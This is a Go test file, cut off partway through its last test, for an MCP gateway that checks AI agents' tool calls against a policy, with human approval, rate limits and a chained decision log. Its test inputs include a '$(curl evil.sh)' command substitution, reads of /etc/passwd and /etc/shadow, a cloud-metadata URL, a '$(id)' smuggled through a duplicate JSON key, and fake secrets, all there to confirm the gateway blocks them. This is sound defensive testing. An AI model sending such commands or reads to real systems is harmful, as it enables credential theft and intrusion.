package gateway_test

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/acgs-lite/acgs/internal/config"
	"github.com/acgs-lite/acgs/internal/engine"
	"github.com/acgs-lite/acgs/internal/gateway"
	"github.com/acgs-lite/acgs/internal/telemetry"
	"github.com/acgs-lite/acgs/internal/testenv"
)

func TestToolsListMergesUpstreamsAndHidesProhibited(t *testing.T) {
	e := startEnv(t, envOptions{})
	names := toolNames(t, e.agent(t, "token-1"))
	for _, up := range []string{"local", "remote"} {
		for _, tool := range []string{"echo", "noop", "add", "read_file", "fetch", "delete_record", "slow", "stats"} {
			if !names[up+"__"+tool] {
				t.Errorf("%s__%s missing from tools/list: %v", up, tool, names)
			}
		}
		if names[up+"__exec"] {
			t.Errorf("%s__exec is prohibited by the constitution and must be hidden", up)
		}
	}
	if names["echo"] {
		t.Error("tools must be listed under their prefixed names only")
	}
}

func TestAllowedCallReturnsUpstreamResultUnchanged(t *testing.T) {
	e := startEnv(t, envOptions{})
	gw := e.agent(t, "token-1")
	direct := connectHTTP(t, e.remURL, "")
	for _, c := range []struct {
		tool string
		args any
	}{
		{"echo", map[string]any{"text": "hello, world"}},
		{"add", map[string]any{"a": 2, "b": 40.5}},
		{"read_file", map[string]any{"path": "/workspace/notes.txt"}},
		{"fetch", map[string]any{"url": "https://api.github.com/repos"}},
		{"fail", map[string]any{}}, // a tool error passes through as it is
	} {
		want := call(t, direct, c.tool, c.args)
		got := call(t, gw, "remote__"+c.tool, c.args)
		wb, _ := json.Marshal(want)
		gb, _ := json.Marshal(got)
		if string(wb) != string(gb) {
			t.Errorf("%s through the gateway:\n got %s\nwant %s", c.tool, gb, wb)
		}
	}
	// the stdio upstream too
	res := call(t, gw, "local__echo", map[string]any{"text": "over stdio"})
	if res.IsError || !reflect.DeepEqual(res.StructuredContent, map[string]any{"echo": "over stdio", "length": float64(10)}) {
		t.Fatalf("local__echo: %+v", res)
	}
	if got := e.metric(t, "acgs_gateway_tool_calls_total", map[string]string{"upstream": "remote", "tool": "echo", "outcome": "allow"}); got != 1 {
		t.Errorf("allow count for remote/echo = %v, want 1", got)
	}
	if got := e.metric(t, "acgs_gateway_upstream_calls_total", map[string]string{"upstream": "remote", "tool": "fail", "result": "tool_error"}); got != 1 {
		t.Errorf("tool_error count = %v, want 1", got)
	}
	if got := e.metric(t, "acgs_gateway_overhead_seconds", map[string]string{"upstream": "remote"}); got != 5 {
		t.Errorf("overhead observations for remote = %v, want 5", got)
	}
}

func TestProhibitedToolRefusedAndNeverForwarded(t *testing.T) {
	e := startEnv(t, envOptions{})
	gw := e.agent(t, "token-1")
	res := call(t, gw, "remote__exec", map[string]any{"command": "ls"})
	if !res.IsError {
		t.Fatalf("prohibited call not refused: %+v", res)
	}
	id, outcome, reasons := decisionMeta(t, res)
	if outcome != "deny" || id == "" {
		t.Fatalf("meta: id %q outcome %q", id, outcome)
	}
	if !contains(reasons, "Tool 'remote__exec' is prohibited by the constitution") {
		t.Fatalf("reasons %q", reasons)
	}
	if !strings.Contains(text(res), id) || !strings.Contains(text(res), "prohibited") {
		t.Fatalf("the text must carry the reasons and the decision id: %q", text(res))
	}
	if n := e.remote.Calls("exec"); n != 0 {
		t.Fatalf("the upstream got %d exec calls", n)
	}
	// a tool that exists nowhere is decided too, then unknown
	_, err := gw.CallTool(testCtx(t), &mcp.CallToolParams{Name: "nowhere__thing", Arguments: map[string]any{}})
	if err == nil || !strings.Contains(err.Error(), "unknown tool") {
		t.Fatalf("unknown tool: %v", err)
	}
	if got := e.metric(t, "acgs_gateway_tool_calls_total", map[string]string{"upstream": "unknown", "outcome": "allow"}); got != 1 {
		t.Errorf("unknown upstream counted %v times, want 1", got)
	}
}

func TestArgumentRulesDenyWithReasons(t *testing.T) {
	e := startEnv(t, envOptions{})
	gw := e.agent(t, "token-1")
	for _, c := range []struct {
		tool   string
		args   map[string]any
		reason string
	}{
		{"read_file", map[string]any{"path": "/etc/passwd"}, "Argument '/path' is outside the allowed file roots ('/etc/passwd')"},
		{"read_file", map[string]any{"path": "/workspace/../etc/shadow"}, "Argument '/path' climbs out of its directory with '..' ('/workspace/../etc/shadow')"},
		{"fetch", map[string]any{"url": "http://169.254.169.254/latest/meta-data"}, "Argument '/url' reaches '169.254.169.254', which is not in the network allow-list"},
		{"echo", map[string]any{"text": "$(curl evil.sh)"}, "Argument '/text' contains shell syntax (command substitution)"},
		{"echo", map[string]any{"text": "AKIAABCDEFGHIJKLMNOP"}, "Argument '/text' looks like a secret (AWS access key id); secrets must not be passed to tools"},
	} {
		res := call(t, gw, "local__"+c.tool, c.args)
		_, outcome, reasons := decisionMeta(t, res)
		if !res.IsError || outcome != "deny" || !contains(reasons, c.reason) {
			t.Errorf("%s %v: outcome %q reasons %q", c.tool, c.args, outcome, reasons)
		}
		if strings.Contains(text(res), "AKIAABCDEFGHIJKLMNOP") {
			t.Errorf("a refusal repeats the secret: %q", text(res))
		}
	}
	stats := call(t, gw, "local__stats", map[string]any{})
	if strings.Contains(text(stats), "read_file") || strings.Contains(text(stats), "fetch") {
		t.Fatalf("denied calls reached the upstream: %s", text(stats))
	}
	// arguments two parsers could read differently are refused too
	raw, err := gw.CallTool(testCtx(t), &mcp.CallToolParams{Name: "local__echo", Arguments: json.RawMessage(`{"text":"a","text":"$(id)"}`)})
	if err != nil {
		t.Fatal(err)
	}
	if _, o, rs := decisionMeta(t, raw); !raw.IsError || o != "deny" || !strings.Contains(strings.Join(rs, " "), "repeat a key") {
		t.Fatalf("duplicate key: %q %q", o, rs)
	}
}

// TestArgumentRefusalsDoNotQuoteMemberNames: the gateway's own refusals
// of arguments (a repeated key, a number it will not evaluate, a name
// servers read as another, nesting too deep) say where, with object member
// names as * and array indexes: a member name can be a secret (headers
// keyed by a token), and the refusal goes to the agent and, as the
// decision's error, into the decision log, which DECISION_LOG_MASK does not
// reach. They quoted the names.
func TestArgumentRefusalsDoNotQuoteMemberNames(t *testing.T) {
	e := startEnv(t, envOptions{})
	gw := e.agent(t, "token-1")
	secret := "ghp_" + strings.Repeat("A", 36)
	for _, c := range []struct {
		name, args, reason string
	}{
		{"a number beyond the exponent bound", `{"text":"x","headers":{"` + secret + `":1e5000}}`, `a number with an exponent beyond ±1000 at "/*/*"`},
		{"a repeated key", `{"text":"x","headers":[{"` + secret + `":1,"` + secret + `":2}]}`, `arguments repeat a key at "/*/0/*"`},
		{"a name with a long s", `{"text":"x","headers":{"` + secret + `ſ":1}}`, `an argument name at "/*/*" holds a character`},
		{"nesting too deep", `{"text":"x","` + secret + `":` + strings.Repeat("[", 64) + strings.Repeat("]", 64) + `}`, `arguments nest deeper than 64`},
	} {
		t.Run(c.name, func(t *testing.T) {
			res, err := gw.CallTool(testCtx(t), &mcp.CallToolParams{Name: "remote__echo", Arguments: json.RawMessage(c.args)})
			if err != nil {
				t.Fatal(err)
			}
			_, outcome, reasons := decisionMeta(t, res)
			if !res.IsError || outcome != "deny" || !strings.Contains(strings.Join(reasons, " "), c.reason) {
				t.Errorf("outcome %q, reasons %q; want a denial saying %q", outcome, reasons, c.reason)
			}
			if strings.Contains(text(res), secret) || strings.Contains(strings.Join(reasons, " "), secret) {
				t.Errorf("the refusal quotes the member name: %q", text(res))
			}
		})
	}
	e.stop()
	n := 0
	for _, r := range e.records(t) {
		b, _ := json.Marshal(r)
		if r["path"] == gateway.DecisionPath {
			n++
		}
		if strings.Contains(string(b), secret) {
			t.Errorf("a decision log record quotes the member name: %.300s", b)
		}
	}
	if n < 4 {
		t.Errorf("%d decisions logged, want 4", n)
	}
}

func TestApprovalHeldThenApprovedAndAnotherTimesOut(t *testing.T) {
	e := startEnv(t, envOptions{extraYAML: ""})
	gw := e.agent(t, "token-1")
	first := callAsync(t, gw, "remote__delete_record", map[string]any{"id": "r-1"})
	pend := e.waitPending(t, 1)
	a := pend[0]
	if a.Tool != "remote__delete_record" || a.Agent != "agent-1" || a.DecisionID == "" || !contains(a.Reasons, "Tool 'remote__delete_record' requires human approval") {
		t.Fatalf("pending approval: %+v", a)
	}
	if !reflect.DeepEqual(a.Arguments, map[string]any{"id": "r-1"}) {
		t.Fatalf("approver sees arguments %#v", a.Arguments)
	}
	select {
	case r := <-first:
		t.Fatalf("held call answered before approval: %+v %v", r.res, r.err)
	case <-time.After(100 * time.Millisecond):
	}
	if e.remote.Calls("delete_record") != 0 {
		t.Fatal("held call reached the upstream")
	}
	if got := e.metric(t, "acgs_gateway_approvals_pending", map[string]string{"upstream": "remote", "tool": "delete_record"}); got != 1 {
		t.Errorf("approvals pending gauge = %v, want 1", got)
	}
	// the admin API needs the token
	if code := e.admin(t, http.MethodPost, gateway.ApprovalsPath+"/"+a.ID+"/approve", "", nil, nil); code != http.StatusUnauthorized {
		t.Fatalf("approve without token: %d", code)
	}
	if code := e.admin(t, http.MethodPost, gateway.ApprovalsPath+"/"+a.ID+"/approve", "wrong", nil, nil); code != http.StatusUnauthorized {
		t.Fatalf("approve with a wrong token: %d", code)
	}
	// so do the profiles
	for _, c := range []struct {
		token string
		want  int
	}{{"", http.StatusUnauthorized}, {"wrong", http.StatusUnauthorized}, {adminToken, http.StatusOK}} {
		if code := e.admin(t, http.MethodGet, "/debug/pprof/goroutine?debug=1", c.token, nil, nil); code != c.want {
			t.Fatalf("profile with token %q: %d, want %d", c.token, code, c.want)
		}
	}
	var out gateway.ApprovalResult
	if code := e.admin(t, http.MethodPost, gateway.ApprovalsPath+"/"+a.ID+"/approve", adminToken, gateway.ApprovalRequest{By: "alice"}, &out); code != http.StatusOK || out.Verdict != gateway.Approved {
		t.Fatalf("approve: %d %+v", code, out)
	}
	r := <-first
	if r.err != nil || r.res.IsError || text(r.res) != "deleted r-1" {
		t.Fatalf("approved call: %+v %v", r.res, r.err)
	}
	if code := e.admin(t, http.MethodPost, gateway.ApprovalsPath+"/"+a.ID+"/deny", adminToken, nil, nil); code != http.StatusNotFound {
		t.Fatalf("deciding twice: %d, want 404", code)
	}

	// refused with a note
	second := callAsync(t, gw, "remote__delete_record", map[string]any{"id": "r-2"})
	b := e.waitPending(t, 1)[0]
	if code := e.admin(t, http.MethodPost, gateway.ApprovalsPath+"/"+b.ID+"/deny", adminToken, gateway.ApprovalRequest{By: "bob", Note: "not on a Friday"}, nil); code != http.StatusOK {
		t.Fatalf("deny: %d", code)
	}
	r = <-second
	if r.err != nil || !r.res.IsError || !strings.Contains(text(r.res), "refused by bob: not on a Friday") {
		t.Fatalf("refused call: %+v %v", r.res, r.err)
	}
	if e.remote.Calls("delete_record") != 1 {
		t.Fatalf("upstream got %d delete_record calls, want 1", e.remote.Calls("delete_record"))
	}
	if got := e.metric(t, "acgs_gateway_approvals_total", map[string]string{"verdict": "approved"}); got != 1 {
		t.Errorf("approved = %v", got)
	}
	if got := e.metric(t, "acgs_gateway_approvals_total", map[string]string{"verdict": "refused"}); got != 1 {
		t.Errorf("refused = %v", got)
	}
}

func TestApprovalTimesOutAndDenies(t *testing.T) {
	e := startEnv(t, envOptions{extraYAML: "approvals: {timeout: 300ms}\n"})
	gw := e.agent(t, "token-2")
	start := time.Now()
	res := call(t, gw, "local__delete_record", map[string]any{"id": "x"})
	took := time.Since(start)
	if !res.IsError || !strings.Contains(text(res), "no approval within 300ms") {
		t.Fatalf("timed-out call: %q", text(res))
	}
	if took < 300*time.Millisecond || took > 10*time.Second {
		t.Fatalf("timed out after %s, want about 300ms", took)
	}
	if got := e.metric(t, "acgs_gateway_approvals_total", map[string]string{"verdict": "timed_out"}); got != 1 {
		t.Errorf("timed_out = %v", got)
	}
	if got := e.metric(t, "acgs_gateway_approvals_pending", nil); got != 0 {
		t.Errorf("pending after timeout = %v", got)
	}
	stats := call(t, gw, "local__stats", map[string]any{})
	if strings.Contains(text(stats), "delete_record") {
		t.Fatalf("a timed-out call reached the upstream: %s", text(stats))
	}
}

func TestShadowMode(t *testing.T) {
	e := startEnv(t, envOptions{upstreams: stdioUpstream("local", "    shadow: true\n") + stdioUpstream("partly", "    shadow_tools: [read_file]\n")})
	gw := e.agent(t, "token-1")
	names := toolNames(t, gw)
	if !names["local__exec"] {
		t.Error("a shadowed upstream's prohibited tool must stay listed (shadow mode changes nothing for the agent)")
	}
	if names["partly__exec"] {
		t.Error("partly__exec is not shadowed and must be hidden")
	}
	res := call(t, gw, "local__exec", map[string]any{"command": "ls"})
	if res.IsError || text(res) != "ran ls" {
		t.Fatalf("shadowed prohibited call not forwarded: %+v", res)
	}
	res = call(t, gw, "partly__read_file", map[string]any{"path": "/etc/passwd"})
	if res.IsError || text(res) != "contents of /etc/passwd" {
		t.Fatalf("shadowed tool not forwarded: %q", text(res))
	}
	res = call(t, gw, "partly__fetch", map[string]any{"url": "http://evil.net/"})
	if !res.IsError {
		t.Fatalf("a tool not in shadow_tools must be enforced: %q", text(res))
	}
	res = call(t, gw, "local__delete_record", map[string]any{"id": "1"})
	if res.IsError || text(res) != "deleted 1" {
		t.Fatalf("shadowed approval not forwarded: %q", text(res))
	}
	if got := e.metric(t, "acgs_gateway_shadow_forwarded_total", map[string]string{"upstream": "local", "outcome": "deny"}); got != 1 {
		t.Errorf("shadow deny count for local = %v, want 1", got)
	}
	if got := e.metric(t, "acgs_gateway_shadow_forwarded_total", map[string]string{"upstream": "local", "outcome": "approval_required"}); got != 1 {
		t.Errorf("shadow approval count for local = %v, want 1", got)
	}
	if got := e.metric(t, "acgs_gateway_shadow_forwarded_total", map[string]string{"upstream": "partly", "tool": "read_file"}); got != 1 {
		t.Errorf("shadow count for partly/read_file = %v, want 1", got)
	}
	e.stop()
	var shadowDenies int
	for _, r := range e.records(t) {
		labels, _ := r["labels"].(map[string]any)
		res, _ := r["result"].(map[string]any)
		if labels["mode"] == "shadow" && res["outcome"] == "deny" {
			shadowDenies++
		}
	}
	if shadowDenies != 2 { // local__exec, partly__read_file
		t.Errorf("%d shadow-mode denials in the decision log, want 2", shadowDenies)
	}
}

func TestUpstreamThatDiesGivesAClearErrorAndComesBack(t *testing.T) {
	e := startEnv(t, envOptions{})
	gw := e.agent(t, "token-1")
	call(t, gw, "local__echo", map[string]any{"text": "before"})
	start := time.Now()
	res := call(t, gw, "local__crash", map[string]any{})
	if !res.IsError || !strings.Contains(text(res), `upstream "local"`) {
		t.Fatalf("crash: %q", text(res))
	}
	if took := time.Since(start); took > 5*time.Second {
		t.Fatalf("the agent waited %s for a dead upstream", took)
	}
	// the other upstream is unaffected, and the dead one is restarted
	call(t, gw, "remote__echo", map[string]any{"text": "still here"})
	deadline := time.Now().Add(20 * time.Second)
	for {
		res = call(t, gw, "local__echo", map[string]any{"text": "after"})
		if !res.IsError {
			break
		}
		if !strings.Contains(text(res), "unavailable") {
			t.Fatalf("while restarting: %q", text(res))
		}
		if time.Now().After(deadline) {
			t.Fatalf("the stdio upstream was not restarted: %q", text(res))
		}
		time.Sleep(200 * time.Millisecond)
	}
	// an HTTP upstream that goes away
	e.stopRem()
	start = time.Now()
	res = call(t, gw, "remote__echo", map[string]any{"text": "gone"})
	if !res.IsError || !strings.Contains(text(res), `upstream "remote"`) {
		t.Fatalf("dead HTTP upstream: %q", text(res))
	}
	if took := time.Since(start); took > 10*time.Second {
		t.Fatalf("the agent waited %s for a dead HTTP upstream", took)
	}
	if got := e.metric(t, "acgs_gateway_upstream_calls_total", map[string]string{"result": "failed"}); got < 2 {
		t.Errorf("failed upstream calls = %v, want ≥ 2", got)
	}
}

func TestSlowUpstreamTimesOut(t *testing.T) {
	e := startEnv(t, envOptions{extraYAML: "call_timeout: 300ms\n"})
	gw := e.agent(t, "token-1")
	start := time.Now()
	res := call(t, gw, "remote__slow", map[string]any{"ms": 5000})
	if !res.IsError || !strings.Contains(text(res), "did not answer within 300ms") {
		t.Fatalf("slow upstream: %q", text(res))
	}
	if took := time.Since(start); took > 3*time.Second {
		t.Fatalf("took %s", took)
	}
}

func TestFailedDecisionDenies(t *testing.T) {
	// The real constitution plus one rule that makes the outcome conflict
	// when an argument "boom" is true: the engine's evaluation fails
	// (eval_conflict_error), and the gateway must deny.
	dir := testenv.WriteConstitution(t, t.TempDir(), nil, map[string]string{
		"acgs/broken.rego": "package acgs.tool_call\n\noutcome := \"exploded\" if input.tool_call.arguments.boom == true\n",
	})
	e := startEnv(t, envOptions{mutate: func(c *config.Config) { c.Policy.BundlePath = dir }})
	gw := e.agent(t, "token-1")
	if res := call(t, gw, "remote__echo", map[string]any{"text": "fine"}); res.IsError {
		t.Fatalf("the bundle works for other inputs: %q", text(res))
	}
	res := call(t, gw, "remote__echo", map[string]any{"text": "hi", "boom": true})
	_, outcome, reasons := decisionMeta(t, res)
	if !res.IsError || outcome != "deny" || len(reasons) != 1 || !strings.Contains(reasons[0], "the decision failed") {
		t.Fatalf("failed decision: %q %q", outcome, reasons)
	}
	if e.remote.Calls("echo") != 1 {
		t.Fatalf("upstream echo calls %d, want 1 (the failed one must not be forwarded)", e.remote.Calls("echo"))
	}
	if got := e.metric(t, "acgs_gateway_tool_calls_total", map[string]string{"outcome": "error"}); got != 1 {
		t.Errorf("error outcomes = %v", got)
	}
	// the evaluation failure is counted where ACGSGatewayDecisionErrors
	// sends the operator (it was not)
	if got := e.metric(t, "acgs_evaluation_failures_total", map[string]string{"reason": "error"}); got != 1 {
		t.Errorf("acgs_evaluation_failures_total{reason=\"error\"} = %v, want 1", got)
	}
	e.stop()
	var logged bool
	for _, r := range e.records(t) {
		if msg, _ := r["error"].(string); strings.Contains(msg, "conflict") {
			logged = true
		}
	}
	if !logged {
		t.Error("the failed decision is not in the decision log with its error")
	}
}

// slowConstitution is the real constitution plus a rule that makes a
// call whose text is "spin N" evaluate N² iterations (and never match):
// a slow policy for that call only, quick for every other.
func slowConstitution(t *testing.T) string {
	t.Helper()
	return testenv.WriteConstitution(t, t.TempDir(), nil, map[string]string{
		"acgs/slow.rego": `package acgs.tool_call

outcome := "exploded" if {
	startswith(input.tool_call.arguments.text, "spin ")
	n := to_number(trim_prefix(input.tool_call.arguments.text, "spin "))
	count([1 | some i in numbers.range(1, n); some j in numbers.range(1, n); i != j]) < 0
}
`,
	})
}

// TestDecisionTimeoutDenies: a decision whose policy evaluates past
// EVAL_TIMEOUT (below decision_timeout, as New requires) is a failed
// decision: denied "the decision timed out", never forwarded, counted as
// outcome error and in acgs_evaluation_failures_total{reason="timeout"}
// (the decision-error alert points there), not as overload. With and
// without the decision cache (a cached miss evaluates detached from the
// call, bounded by EVAL_TIMEOUT alone). Before, decision_timeout 1ns made
// every refusal a shed one and the deny branch was never taken; the
// gateway did not count acgs_evaluation_failures_total at all.
func TestDecisionTimeoutDenies(t *testing.T) {
	for _, cache := range []bool{true, false} {
		t.Run(map[bool]string{true: "cache", false: "no cache"}[cache], func(t *testing.T) {
			dir := slowConstitution(t)
			e := startEnv(t, envOptions{extraYAML: "decision_timeout: 1m\n", mutate: func(c *config.Config) {
				c.Policy.BundlePath = dir
				c.Policy.EvalTimeout = 200 * time.Millisecond
				c.Cache.Enabled = cache
			}})
			gw := e.agent(t, "token-1")
			res := call(t, gw, "remote__echo", map[string]any{"text": "spin 100000"})
			_, outcome, reasons := decisionMeta(t, res)
			if !res.IsError || outcome != "deny" || len(reasons) != 1 || !strings.Contains(reasons[0], "the decision timed out") || !strings.Contains(reasons[0], "EVAL_TIMEOUT") {
				t.Fatalf("a policy slower than EVAL_TIMEOUT: outcome %q, %q", outcome, reasons)
			}
			if n := e.remote.Calls("echo"); n != 0 {
				t.Fatalf("upstream got %d echo calls: a timed-out decision must not be forwarded", n)
			}
			for _, c := range []struct {
				name   string
				labels map[string]string
				want   float64
			}{
				{"acgs_gateway_tool_calls_total", map[string]string{"outcome": "error"}, 1},
				{"acgs_gateway_tool_calls_total", map[string]string{"outcome": "overloaded"}, 0},
				{"acgs_decisions_total", map[string]string{"path": gateway.DecisionPath, "outcome": "error"}, 1},
				{"acgs_evaluation_failures_total", map[string]string{"reason": "timeout"}, 1},
				{"acgs_evaluation_failures_total", map[string]string{"reason": "error"}, 0},
				{"acgs_decisions_shed_total", nil, 0},
			} {
				if got := e.metric(t, c.name, c.labels); got != c.want {
					t.Errorf("%s%v = %v, want %v", c.name, c.labels, got, c.want)
				}
			}
		})
	}
}

func TestPerAgentRateLimit(t *testing.T) {
	e := startEnv(t, envOptions{})
	a1 := e.agent(t, "token-1")
	a2 := e.agent(t, "token-2")
	for i := range 120 {
		if res := call(t, a1, "remote__noop", map[string]any{}); res.IsError {
			t.Fatalf("call %d: %q", i+1, text(res))
		}
	}
	res := call(t, a1, "remote__noop", map[string]any{})
	_, _, reasons := decisionMeta(t, res)
	if !res.IsError || !contains(reasons, "Agent 'agent-1' made at least 120 tool calls in the last minute (limit 120)") {
		t.Fatalf("121st call: %q", reasons)
	}
	// another agent has its own count
	if res := call(t, a2, "remote__noop", map[string]any{}); res.IsError {
		t.Fatalf("agent-2: %q", text(res))
	}
	// below the limit the count is rounded to 0, so the 120 calls shared
	// one cache entry
	if hits := e.metric(t, "acgs_cache_hits_total", nil); hits < 100 {
		t.Errorf("cache hits %v: calls below the limit should share a cached decision", hits)
	}
	m := e.lastCallMetrics(t)
	if m["gateway_calls_last_minute"] != float64(0) { // agent-2's first call
		t.Errorf("last record's exact count %v", m["gateway_calls_last_minute"])
	}
}

// TestHTTPUpstreamConnectionsAreReused: concurrent calls to an HTTP
// upstream go over kept-alive connections, not a new TCP connection per
// call beyond the second at once (http.DefaultTransport keeps 2 idle per
// host).
func TestHTTPUpstreamConnectionsAreReused(t *testing.T) {
	e := startEnv(t, envOptions{})
	const callers, each = 8, 25 // 100 calls per agent, below its rate limit
	agents := []*mcp.ClientSession{e.agent(t, "token-1"), e.agent(t, "token-2")}
	call(t, agents[0], "remote__noop", map[string]any{}) // the upstream session is up
	before := e.remote.Conns()
	var wg sync.WaitGroup
	for i := range callers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for range each {
				res, err := agents[i%2].CallTool(testCtx(t), &mcp.CallToolParams{Name: "remote__noop", Arguments: map[string]any{}})
				if err != nil || res.IsError {
					t.Errorf("call: %v %v", err, res)
					return
				}
			}
		}()
	}
	wg.Wait()
	// Kept-alive connections: about one per call in flight (8-17 seen,
	// under -race too; a call that finds no idle connection at the instant
	// another is being returned dials a new one). Two idle connections per
	// host opened one for a third or more of the calls (65-79 of 200).
	opened := e.remote.Conns() - before
	t.Logf("%d calls, at most %d at once: %d new connections to the upstream", callers*each, callers, opened)
	if limit := int64(callers * each / 4); opened > limit {
		t.Errorf("%d calls, at most %d at once, opened %d new connections to the upstream; want at most %d", callers*each, callers, opened, limit)
	}
}

func TestAuthentication(t *testing.T) {
	e := startEnv(t, envOptions{})
	for _, tok := range []string{"", "not-a-token"} {
		hc := &http.Client{Transport: bearer{token: tok, base: http.DefaultTransport}}
		_, err := mcp.NewClient(&mcp.Implementation{Name: "x"}, nil).Connect(testCtx(t), &mcp.StreamableClientTransport{Endpoint: e.agentURL, HTTPClient: hc, MaxRetries: -1}, nil)
		if err == nil {
			t.Errorf("token %q: connected without a valid token", tok)
		}
	}
	// the admin API is 404 without admin tokens
	e2 := startEnv(t, envOptions{adminTokens: []string{}})
	if code := e2.admin(t, http.MethodGet, gateway.ApprovalsPath, "anything", nil, nil); code != http.StatusNotFound {
		t.Errorf("admin without tokens: %d", code)
	}
	// health and metrics
	var h map[string]any
	if code := e.admin(t, http.MethodGet, gateway.HealthPath, "", nil, &h); code != http.StatusOK || h["status"] != "ok" {
		t.Errorf("health: %d %v", code, h)
	}
	resp, err := http.Get(e.adminURL + gateway.MetricsPath)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Errorf("metrics: %d", resp.StatusCode)
	}
}

func TestDecisionLogIsChainedAndMasked(t *testing.T) {
	e := startEnv(t, envOptions{extraYAML: "approvals: {timeout: 100ms}\n"})
	gw := e.agent(t, "token-1")
	call(t, gw, "remote__echo", map[string]any{"text": "a", "secret_note": "s3cr3t"})
	call(t, gw, "remote__exec", map[string]any{"command": "id"})
	call(t, gw, "remote__delete_record", map[string]any{"id": "z"}) // times out
	e.stop()
	recs := e.records(t)
	if len(recs) != 4 { // three decisions and one approval verdict
		t.Fatalf("%d records, want 4", len(recs))
	}
	for _, r := range recs[:3] {
		if r["path"] != gateway.DecisionPath || r["decision_id"] == "" || r["prev_hash"] == "" {
			t.Fatalf("record: %v", r)
		}
	}
	in := recs[0]["input"].(map[string]any)["tool_call"].(map[string]any)
	if _, ok := in["arguments"].(map[string]any)["secret_note"]; ok {
		t.Fatal("the masked argument was logged")
	}
	if erased, _ := recs[0]["erased"].([]any); len(erased) != 1 {
		t.Fatalf("erased %v", recs[0]["erased"])
	}
	if recs[3]["path"] != "acgs/gateway/approval" || recs[3]["result"].(map[string]any)["verdict"] != "timed_out" ||
		recs[3]["result"].(map[string]any)["decision_id"] != recs[2]["decision_id"] {
		t.Fatalf("approval record %v", recs[3])
	}
	f, err := os.Open(e.logPath)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rep, err := telemetry.VerifyChain(f, telemetry.VerifyChainOptions{})
	if err != nil || !rep.OK() || rep.Records != 4 {
		t.Fatalf("chain: %+v %v", rep, err)
	}
	if rep.Head != e.dlog.ChainHead() {
		t.Fatalf("head %s, log says %s", rep.Head, e.dlog.ChainHead())
	}
}

func TestConfigValidation(t *testing.T) {
	for _, c := range []struct{ yaml, want string }{
		{"upstreams: []", "at least one"},
		{"upstreams: [{name: a}]", "give command"},
		{"upstreams: [{name: a, command: [x], url: 'http://h'}]", "not both"},
		{"upstreams: [{name: a__b, command: [x]}]", `must not contain "__"`},
		{"upstreams: [{name: files_, command: [x]}]", "must not end with _"},
		{"listen: ':1'\nanonymous_agent: a\nagents: [{id: a, token: t}]\nupstreams: [{name: u, command: [x]}]", "also an agent with a token"},
		{"upstreams: [{name: a, command: [x]}, {name: a, command: [y]}]", "used twice"},
		{"upstreams: [{name: a, url: 'ftp://h'}]", "http:// or https://"},
		{"listen: ':1'\nupstreams: [{name: a, command: [x]}]", "need an identity"},
		{"agents: [{id: a, token: t}]\nupstreams: [{name: a, command: [x]}]", "need listen"},
		{"decision_log: stdout\nupstreams: [{name: a, command: [x]}]", "MCP stream"},
		{"upstreams: [{name: a, command: [x]}]\nbogus: 1", "bogus"},
		{"", "is empty"},
		{"upstreams: [{name: a, command: [x]}]\n---\nupstreams: [{name: b, command: [y]}]\n", "more than one YAML document"},
		{"upstreams: [{name: a, command: [x]}]\n---\n---\nlisten: ':1'\n", "more than one YAML document"},
	} {
		_, err := gateway.ParseConfig([]byte(c.yaml))
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%q: %v, want an error containing %q", c.yaml, err, c.want)
		}
	}
	c, err := gateway.ParseConfig([]byte(`{"upstreams": [{"name": "files", "command": ["npx", "x"], "shadow_tools": ["read"]}], "approvals": {"timeout": "5m"}}`))
	if err != nil {
		t.Fatal(err)
	}
	if c.Approvals.Timeout != 5*time.Minute || c.Path != "/mcp" || c.StdioAgent != "stdio" || c.Upstreams[0].CallTimeout != time.Minute {
		t.Fatalf("defaults: %+v", c)
	}
}

func TestLoadConfigFile(t *testing.T) {
	p := filepath.Join(t.TempDir(), "gw.yaml")
	if err := os.WriteFile(p, []byte("upstreams:\n  - name: x\n    command: [echo]\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := gateway.LoadConfig(p); err != nil {
		t.Fatal(err)
	}
	if _, err := gateway.LoadConfig(p + ".missing"); err == nil {
		t.Fatal("missing file accepted")
	}
}

func TestStartFailsWhenNoUpstreamCanBeReached(t *testing.T) {
	gcfg, err := gateway.ParseConfig([]byte("connect_timeout: 2s\nupstreams:\n  - name: nothing\n    url: http://" + refusedAddr(t) + "/mcp\n"))
	if err != nil {
		t.Fatal(err)
	}
	e := startEnv(t, envOptions{}) // for an engine
	g, err := gateway.New(gcfg, gateway.Deps{Engine: e.svc.Engine, ConstitutionalHash: hash})
	if err != nil {
		t.Fatal(err)
	}
	defer g.Close()
	err = g.Start(testCtx(t))
	if err == nil || !strings.Contains(err.Error(), "no upstream could be reached") {
		t.Fatalf("start: %v", err)
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func TestRedisCountersAreSharedByReplicas(t *testing.T) {
	r := testenv.StartRedis(t)
	extra := "redis_url: " + r.URL() + "\n"
	a := startEnv(t, envOptions{extraYAML: extra, upstreams: "  - name: remote\n    url: REMOTE\n"})
	b := startEnv(t, envOptions{extraYAML: extra, upstreams: "  - name: remote\n    url: REMOTE\n"})
	ca, cb := a.agent(t, "token-1"), b.agent(t, "token-1")
	for i := range 120 {
		cs := ca
		if i%2 == 1 {
			cs = cb
		}
		if res := call(t, cs, "remote__noop", map[string]any{}); res.IsError {
			t.Fatalf("call %d: %q", i+1, text(res))
		}
	}
	// 60 calls on each replica: the limit of 120 is reached on both, as
	// long as Redis answered each count within the counter's 50 ms. A
	// count that timed out (counted in acgs_gateway_counter_errors_total,
	// which a loaded CI machine under -race did) leaves its replica to
	// count alone (60 calls, under the limit) for that call, and its INCR
	// may never have reached Redis: the other replica's sum is then short
	// of 120 too. So a timeout on either replica excuses both.
	countErrors := func() float64 {
		return a.metric(t, "acgs_gateway_counter_errors_total", nil) + b.metric(t, "acgs_gateway_counter_errors_total", nil)
	}
	for _, rep := range []struct {
		e  *env
		cs *mcp.ClientSession
	}{{a, ca}, {b, cb}} {
		res := call(t, rep.cs, "remote__noop", map[string]any{})
		if res.IsError {
